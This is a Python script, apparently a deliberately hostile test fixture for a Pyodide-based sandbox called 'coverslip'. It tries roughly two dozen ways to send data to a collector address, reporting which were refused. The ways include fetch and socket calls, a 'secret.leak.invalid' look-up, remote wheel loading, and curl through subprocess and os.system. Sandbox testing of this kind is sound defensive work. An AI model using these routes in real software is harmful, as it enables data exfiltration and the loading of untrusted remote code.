# /// script
# requires-python = ">=3.11"
# dependencies = []
# [tool.coverslip]
# name = "Hostile Python"
# version = "1.0.0"
# description = "Tries every way out that Python and its bridge to JavaScript offer."
# ///
"""Wrong on purpose: it sends itself out of the sandbox by Python's own libraries, by Pyodide, and by written code."""

import asyncio
import ftplib
import http.client
import inspect
import json
import os
import socket
import subprocess
import urllib.request
import webbrowser
import xmlrpc.client
from urllib.parse import urlsplit

import js
import pyodide.code
import pyodide.http
import pyodide_js
from coverslip import op

SECONDS = 2.5


def ways(address: str, site: str) -> dict[str, object]:
    """What is tried, by name; each is called without arguments and may be asynchronous."""
    host, port = str(urlsplit(address).hostname), int(urlsplit(address).port or 80)
    fetching = f"fetch({json.dumps(address + '/written-code')}, {{mode: 'no-cors'}})"

    def http_client() -> object:
        connection = http.client.HTTPConnection(host, port, timeout=1)
        connection.request("GET", "/http-client")
        return connection.getresponse().status

    def stream() -> object:
        # Emscripten says yes to every connection at first, so only what comes back counts.
        connection = socket.create_connection((host, port), timeout=1)
        connection.sendall(b"GET /socket HTTP/1.0\r\n\r\n")
        return connection.recv(1)

    def datagram() -> object:
        connection = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        connection.settimeout(1)
        connection.sendto(b"secret", (host, port))
        return connection.recv(1)

    def asked() -> object:
        return socket.getaddrinfo("secret.leak.invalid", 80)

    def file_by_request() -> object:
        pyodide_js.FS.createLazyFile("/", "stolen", f"{address}/lazy-file", True, False)
        # Python's own open() would meet the same refusal, and take it as the end of the interpreter.
        return pyodide_js.FS.readFile("/stolen")

    async def loaded_package() -> object:
        await pyodide_js.loadPackage(f"{address}/loaded_package-1.0-py3-none-any.whl")
        return await pyodide_js.loadPackage("leak")

    async def installed() -> object:
        import micropip  # type: ignore[import-not-found]

        return await micropip.install(f"{address}/installed-1.0-py3-none-any.whl")

    def opened() -> object:
        if not webbrowser.open(f"{address}/webbrowser"):
            raise OSError("no browser")
        return "opened"

    def program() -> object:
        return subprocess.run(["curl", f"{address}/curl"], check=True, timeout=2)

    def shell() -> object:
        if os.system(f"curl {address}/shell") != 0:  # noqa: S605
            raise OSError("no shell")
        return "ran"

    def later() -> object:
        js.setTimeout(fetching, 0)
        raise OSError("no error; only the collector knows")

    return {
        "pyfetch": lambda: pyodide.http.pyfetch(f"{address}/pyfetch", mode="no-cors"),
        "pyfetch of the own site": lambda: pyodide.http.pyfetch(f"{site}?leak=pyfetch"),
        "open_url": lambda: pyodide.http.open_url(f"{address}/open-url"),
        "js.fetch": lambda: js.fetch(f"{address}/js-fetch"),
        "urllib": lambda: urllib.request.urlopen(f"{address}/urllib", timeout=1),
        "http.client": http_client,
        "socket": stream,
        "datagram socket": datagram,
        "name look-up": asked,
        "asyncio streams": lambda: asyncio.open_connection(host, port),
        "ftplib": lambda: ftplib.FTP(host, timeout=1),  # noqa: S321
        "xmlrpc": lambda: xmlrpc.client.ServerProxy(f"{address}/xmlrpc").leak(),
        "micropip": installed,
        "loadPackage": loaded_package,
        "lazy file": file_by_request,
        "webbrowser": opened,
        "subprocess": program,
        "os.system": shell,
        "run_js": lambda: pyodide.code.run_js(fetching),
        "eval": lambda: js.eval(fetching),
        "Function": lambda: js.Function.new(fetching)(),
        "setTimeout of a text": later,
    }


@op(title="Escape")
async def escape(address: str, site: str) -> str:
    """Try to reach `address` and the app's own `site`; report as JSON what happened."""
    outcomes = {}
    for name, way in ways(address, site).items():
        try:
            answer = way()  # type: ignore[operator]
            if inspect.isawaitable(answer):
                answer = await asyncio.wait_for(answer, SECONDS)
            outcomes[name] = f"got through: {answer}"
        except BaseException as error:
            outcomes[name] = f"refused: {type(error).__name__}: {str(error)[:200]}"
    return json.dumps(outcomes)
